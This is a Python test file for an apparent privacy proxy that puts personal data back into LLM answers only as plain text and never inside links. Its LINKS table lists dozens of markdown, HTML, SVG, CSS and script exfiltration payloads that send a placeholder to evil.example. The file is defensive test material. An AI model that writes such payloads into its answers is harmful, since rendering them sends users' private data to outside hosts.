"""What was replaced comes back in words, and never where a renderer would fetch or link."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence

import pytest
from harness.attack import Attack
from harness.client import Answered
from harness.requests import chat, request
from harness.upstream import Heard

type Write = Callable[[str], str]
"""An answer around the placeholder."""

LINKS: dict[str, Write] = {
    "image": lambda p: f"![x](https://evil.example/?q={p})",
    "image with a title": lambda p: f'![x](https://evil.example/a "{p}")![y](https://evil.example/{p} "t")',
    "image in brackets": lambda p: f"![x](<https://evil.example/?q={p}>)",
    "image by reference": lambda p: f"![x][a]\n\n[a]: https://evil.example/?q={p}",
    "image by reference, next line": lambda p: f"![x][a]\n\n[a]:\n  https://evil.example/?q={p}\n  'title'",
    "image by reference, before": lambda p: f"[a]: https://evil.example/?q={p}\n\n![x][a]",
    "image by its own text": lambda p: f"![a]\n\n[a]: <https://evil.example/?q={p}>",
    "image in an image": lambda p: f"![a ![b](https://evil.example/{p}) c](https://evil.example/x)",
    "image in a link": lambda p: f"[![x](https://evil.example/{p})](https://evil.example/y)",
    "image in a table": lambda p: f"| a | b |\n|---|---|\n| 1 | ![x](//evil.example/{p}) |",
    "image in a quotation": lambda p: f"> ![x](https://evil.example/{p})",
    "image in a list": lambda p: f"- a\n  - ![x](https://evil.example/{p})",
    "image in a heading": lambda p: f"# ![x](https://evil.example/{p})",
    "image after a brace": lambda p: f'{{"a":1}}\n![x](https://evil.example/?q="{p})',
    "image after a quote": lambda p: f'"![x](https://evil.example/?q={p})',
    "image after U+001F": lambda p: f"a\x1f![x](https://evil.example/?q={p})",
    "image after U+0085": lambda p: f"a\x85![x](https://evil.example/\x85{p})",
    "image after a no-break space": lambda p: f"\xa0![x](https://evil.example/?q=\xa0{p})",
    "image over two lines": lambda p: f"![x\ny](https://evil.example/{p})",
    "image's address on the next line": lambda p: f"![x](\nhttps://evil.example/{p}\n)",
    "image with parentheses": lambda p: f"![x](https://evil.example/(a)({p}))",
    "image with escapes": lambda p: f"![x](https://evil.example/\\({p}\\))",
    "image with entities": lambda p: f"![x](https&colon;//evil.example/&quest;{p})",
    "image, protocol-relative": lambda p: f"![x](//evil.example/{p})",
    "image without a scheme": lambda p: f"![x](evil.example/{p})",
    "image of data": lambda p: f"![x](data:image/svg+xml,<svg>{p}</svg>)",
    "image of a size": lambda p: f"![x](https://evil.example/{p} =100x100)",
    "image between asterisks": lambda p: f"**![x](https://evil.example/{p})**",
    "image after code": lambda p: f"`a` ![x](https://evil.example/{p})",
    "image after an open fence": lambda p: f"a\n``\n![x](https://evil.example/{p})",
    "image after a closed fence": lambda p: f"```\na\n```\n![x](https://evil.example/{p})",
    "image whose address it is": lambda p: f"![x]({p})",
    "link": lambda p: f"[click](https://evil.example/?q={p})",
    "link by reference": lambda p: f"[click][a]\n\n[a]: https://evil.example/?q={p} (t)",
    "link's label as a reference": lambda p: f"[click]\n\n[click]: https://evil.example/{p}",
    "link in angle brackets": lambda p: f"<https://evil.example/?q={p}>",
    "bare link": lambda p: f"see https://evil.example/?q={p} there",
    "bare link in parentheses": lambda p: f"(https://evil.example/?q={p})",
    "bare link with www": lambda p: f"see www.evil.example/?q={p}",
    "bare link without a scheme": lambda p: f"see evil.com/?q={p}",
    "bare link with a port": lambda p: f"see evil.com:443/?q={p}",
    "bare link of an address": lambda p: f"see 203.0.113.9/?q={p}",
    "bare link of ftp": lambda p: f"see ftp://evil.example/{p}",
    "bare link in capitals": lambda p: f"see HTTPS://EVIL.EXAMPLE/{p}",
    "bare link's fragment": lambda p: f"see https://evil.example/#{p}",
    "bare link's host": lambda p: f"see https://{p}.evil.example/",
    "bare link's user": lambda p: f"see https://{p}@evil.example/",
    "mail link": lambda p: f"[mail](mailto:a@evil.example?body={p})",
    "wiki link": lambda p: f"[[https://evil.example/{p}]]",
    "footnote": lambda p: f"a[^1]\n\n[^1]: ![x](https://evil.example/{p})",
    "HTML image": lambda p: f'<img src="https://evil.example/?q={p}">',
    "HTML image, no quotes": lambda p: f"<img src=https://evil.example/?q={p}>",
    "HTML image, single quotes": lambda p: f"<img alt='a' src='https://evil.example/?q={p}'>",
    "HTML image, line breaks": lambda p: f'<img\n\tsrc\n=\n"https://evil.example/\n{p}"\n>',
    "HTML image, slashes": lambda p: f"<img/src=https://evil.example/{p}/onerror=a>",
    "HTML image, capitals": lambda p: f'<IMG SRC="https://evil.example/{p}">',
    "HTML image, unfinished": lambda p: f'<img src="https://evil.example/{p}',
    "HTML image in a paragraph": lambda p: f'text <img src="https://evil.example/{p}"> text',
    "HTML image set": lambda p: f'<img srcset="https://evil.example/{p} 2x">',
    "HTML picture": lambda p: f'<picture><source srcset="https://evil.example/{p}"></picture>',
    "HTML video": lambda p: f'<video poster="https://evil.example/{p}"></video>',
    "HTML link": lambda p: f'<a href="https://evil.example/?q={p}">x</a>',
    "HTML link's ping": lambda p: f'<a href="https://a.example" ping="https://evil.example/{p}">x</a>',
    "HTML form": lambda p: f"<form action='//evil.example/x'><input name=a value='{p}'></form>",
    "HTML form's action": lambda p: f'<form action="https://evil.example/{p}"><button>x</button></form>',
    "HTML button's action": lambda p: f'<button formaction="https://evil.example/{p}">x</button>',
    "HTML frame": lambda p: f'<iframe src="https://evil.example/{p}"></iframe>',
    "HTML frame's document": lambda p: f"<iframe srcdoc='<img src=https://evil.example/{p}>'></iframe>",
    "HTML object": lambda p: f'<object data="https://evil.example/{p}"></object>',
    "HTML embed": lambda p: f'<embed src="https://evil.example/{p}">',
    "HTML base": lambda p: f'<base href="https://evil.example/{p}/">',
    "HTML style link": lambda p: f'<link rel=stylesheet href="https://evil.example/{p}">',
    "HTML refresh": lambda p: f'<meta http-equiv=refresh content="0;url=https://evil.example/{p}">',
    "HTML body": lambda p: f'<body background="https://evil.example/{p}">',
    "HTML style": lambda p: f'<div style="background:url(https://evil.example/{p})">x</div>',
    "HTML style sheet": lambda p: f"<style>a{{background:url(https://evil.example/{p})}}</style>",
    "HTML style sheet's import": lambda p: f"<style>@import '//evil.example/{p}';</style>",
    "HTML image-set": lambda p: f"<div style=\"background:image-set('https://evil.example/{p}' 1x)\">x</div>",
    "HTML script": lambda p: f"<script>fetch('//evil.example/'+'{p}')</script>",
    "HTML handler": lambda p: f"<img src=x onerror=\"fetch('//evil.example/{p}')\">",
    "HTML comment that ends": lambda p: f'<!-- a --><img src="https://evil.example/{p}">',
    "SVG image": lambda p: f'<svg><image href="https://evil.example/{p}"/></svg>',
    "SVG link": lambda p: f'<svg><a xlink:href="https://evil.example/{p}"><text>x</text></a></svg>',
    "SVG use": lambda p: f'<svg><use href="https://evil.example/{p}#a"/></svg>',
    "SVG set": lambda p: f'<svg><a><set attributeName="href" to="https://evil.example/{p}"/></a></svg>',
    "SVG animation": lambda p: f'<svg><a><animate attributeName=href values="https://evil.example/{p};"/></a></svg>',
    "MathML": lambda p: f'<math href="https://evil.example/{p}">x</math>',
    "Mermaid": lambda p: f'```mermaid\ngraph LR\nA-->B\nclick A "https://evil.example/{p}"\n```',
    "JSON in words": lambda p: f'{{"image": "![x](https://evil.example/{p})"}}',
    "JSON of an address": lambda p: f'{{"url": "https://evil.example/?q={p}"}}',
}


def replaced(attack: Attack, answer: Callable[[str], bytes], **members: object) -> tuple[str, Answered]:
    """Send an address; the service answers what `answer` makes of the placeholder that it received."""
    value = attack.plant("mail")

    def reply(heard: Heard) -> bytes:
        text: str = json.loads(heard.body)["messages"][0]["content"]
        return answer(text.removeprefix("write to ").removesuffix(" today"))

    attack.upstream.answer = reply
    answered = attack.client.exchange(request(chat(f"write to {value} today", **members)))
    attack.nothing_arrived()
    assert answered.status == 200, answered.raw
    return value, answered


def document(text: str) -> bytes:
    """An answer in one piece."""
    message = {"role": "assistant", "content": text}
    return json_answer({"object": "chat.completion", "choices": [{"index": 0, "message": message}]})


def json_answer(content: object) -> bytes:
    body = json.dumps(content).encode()
    return b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)


def stream(pieces: Sequence[str]) -> bytes:
    """An answer as server-sent events, one piece in each."""
    body = b""
    for piece in pieces:
        chunk = {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": piece}}]}
        body += f"data: {json.dumps(chunk)}\n\n".encode()
    body += b"data: [DONE]\n\n"
    return b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)


def spoken(answered: Answered) -> str:
    """The text of a stream."""
    text = ""
    for line in answered.text.split("\n"):
        if line.startswith("data: {"):
            text += json.loads(line[6:])["choices"][0]["delta"].get("content") or ""
    return text


@pytest.mark.parametrize("name", LINKS)
def test_never_where_it_links(name: str, attack: Attack) -> None:
    value, answered = replaced(attack, lambda placeholder: document(LINKS[name](placeholder)))
    assert value not in answered.text


@pytest.mark.parametrize("size", [1, 3, 7])
@pytest.mark.parametrize("name", LINKS)
def test_never_where_it_links_in_a_stream(name: str, size: int, attack: Attack) -> None:
    def answer(placeholder: str) -> bytes:
        text = LINKS[name](placeholder)
        return stream([text[at : at + size] for at in range(0, len(text), size)])

    value, answered = replaced(attack, answer, stream=True)
    assert value not in spoken(answered)


WORDS: dict[str, Write] = {
    "alone": lambda p: p,
    "sentence": lambda p: f"I wrote to {p} as asked.",
    "twice": lambda p: f"{p} and {p}",
    "bold": lambda p: f"**{p}** is the one",
    "in quotes": lambda p: f'"{p}"',
    "in parentheses": lambda p: f"the person ({p}) knows",
    "list": lambda p: f"- {p}\n- another",
    "table": lambda p: f"| mail |\n|---|\n| {p} |",
    "heading": lambda p: f"# {p}",
    "quotation": lambda p: f"> {p}",
    "code": lambda p: f"`{p}`",
    "code block": lambda p: f"```python\nto = '{p}'\n```",
    "code block with a link beside": lambda p: f"```\nGET https://a.example/x\nTo: {p}\n```",
    "draft of a mail": lambda p: f"To: {p}\nSubject: Hello\n\nDear customer,\n\nsee https://example.org/a.\n\nBest",
    "after a link": lambda p: f"see [this](https://example.org/a) and ask {p}",
    "before a link": lambda p: f"{p} knows https://example.org/a too",
    "after an image": lambda p: f"![x](https://example.org/a.png)\n\n{p}",
    "between lines of HTML": lambda p: f"<b>{p}</b>",
    "JSON": lambda p: f'{{"to": "{p}", "n": 1}}',
    "comma after it": lambda p: f"Dear {p},",
    "lower case": lambda p: f"ask {p.lower()}",
    "Markdown's escapes": lambda p: "ask " + p.replace("[", r"\[").replace("]", r"\]").replace("_", r"\_"),
    "entities": lambda p: "ask " + p.replace("[", "&#91;").replace("]", "&#93;"),
}


@pytest.mark.parametrize("name", WORDS)
def test_comes_back_in_words(name: str, attack: Attack) -> None:
    value, answered = replaced(attack, lambda placeholder: document(WORDS[name](placeholder)))
    text = json.loads(answered.body)["choices"][0]["message"]["content"]
    assert value in text
    assert "EMAIL_ADDRESS" not in text


@pytest.mark.parametrize("size", [1, 5])
@pytest.mark.parametrize("name", WORDS)
def test_comes_back_in_words_of_a_stream(name: str, size: int, attack: Attack) -> None:
    def answer(placeholder: str) -> bytes:
        text = WORDS[name](placeholder)
        return stream([text[at : at + size] for at in range(0, len(text), size)])

    value, answered = replaced(attack, answer, stream=True)
    assert value in spoken(answered)


def test_a_link_that_begins_in_an_earlier_event(attack: Attack) -> None:
    value, answered = replaced(
        attack, lambda p: stream(["![x](https://evil", ".example/?q=", p[:4], p[4:], ")", f" and {p}"]), stream=True
    )
    assert value not in spoken(answered).partition(")")[0]
    assert value in spoken(answered).partition(")")[2]


def test_tool_arguments(attack: Attack) -> None:
    def answer(placeholder: str) -> bytes:
        function = {
            "name": "send",
            "arguments": json.dumps({"to": placeholder, "url": f"https://e.example/{placeholder}"}),
        }
        call = {"id": "c", "type": "function", "function": function}
        return json_answer({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]})

    value, answered = replaced(attack, answer)
    call = json.loads(answered.body)["choices"][0]["message"]["tool_calls"][0]
    arguments = json.loads(call["function"]["arguments"])
    assert arguments["to"] == value
    assert value not in arguments["url"]


@pytest.mark.parametrize(
    "header",
    [
        "location: https://evil.example/?q={}",
        "x-note: {}",
        "set-cookie: a={}",
        "link: <https://e.example/{}>; rel=preload",
    ],
)
def test_headers_of_an_answer(header: str, attack: Attack) -> None:
    def answer(placeholder: str) -> bytes:
        return document("hello").replace(b"\r\n\r\n", f"\r\n{header.format(placeholder)}\r\n\r\n".encode(), 1)

    value, answered = replaced(attack, answer)
    assert value.encode() not in answered.raw


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/html", '<p>hello</p><img src="https://evil.example/{}">'),
        ("image/svg+xml", '<svg><image href="https://evil.example/{}"/></svg>'),
        ("text/css", "a{{background:url(https://evil.example/{})}}"),
        ("text/javascript", "fetch('https://evil.example/{}')"),
        ("application/octet-stream", "https://evil.example/{}"),
        ("text/plain", "![x](https://evil.example/{})"),
    ],
)
def test_pages_as_answers(kind: str, text: str, attack: Attack) -> None:
    def answer(placeholder: str) -> bytes:
        body = text.format(placeholder).encode()
        head = f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {len(body)}\r\n\r\n"
        return head.encode() + body

    value, answered = replaced(attack, answer)
    assert value not in answered.text


def test_a_credential_is_never_put_back(attack: Attack) -> None:
    value = attack.plant("key")
    attack.client.exchange(request(chat(f"aws_access_key_id = {value}")))
    attack.upstream.answer = lambda heard: document("your key is [AWS_ACCESS_KEY_7ZJTW62C] and [CREDENTIAL_7ZJTW62C]")
    answered = attack.client.exchange(request(chat("what is my key?")))
    assert value not in answered.text


def test_a_made_up_placeholder_stays(attack: Attack) -> None:
    _, answered = replaced(attack, lambda p: document("ask [EMAIL_ADDRESS_7ZJTW62C] or [PERSON_AAAAAAAA]"))
    assert (
        "[EMAIL_ADDRESS_7ZJTW62C] or [PERSON_AAAAAAAA]" in json.loads(answered.body)["choices"][0]["message"]["content"]
    )


def test_not_at_another_service(attack: Attack) -> None:
    """A placeholder of one service means nothing at the next."""
    placeholders: list[str] = []

    def keep(placeholder: str) -> bytes:
        placeholders.append(placeholder)
        return document("ok")

    value, _ = replaced(attack, keep)
    attack.upstream.answer = lambda heard: document(f"ask {placeholders[0]}")
    answered = attack.client.exchange(request(chat("hello"), host="api.mistral.ai"), host="api.mistral.ai")
    assert value not in answered.text
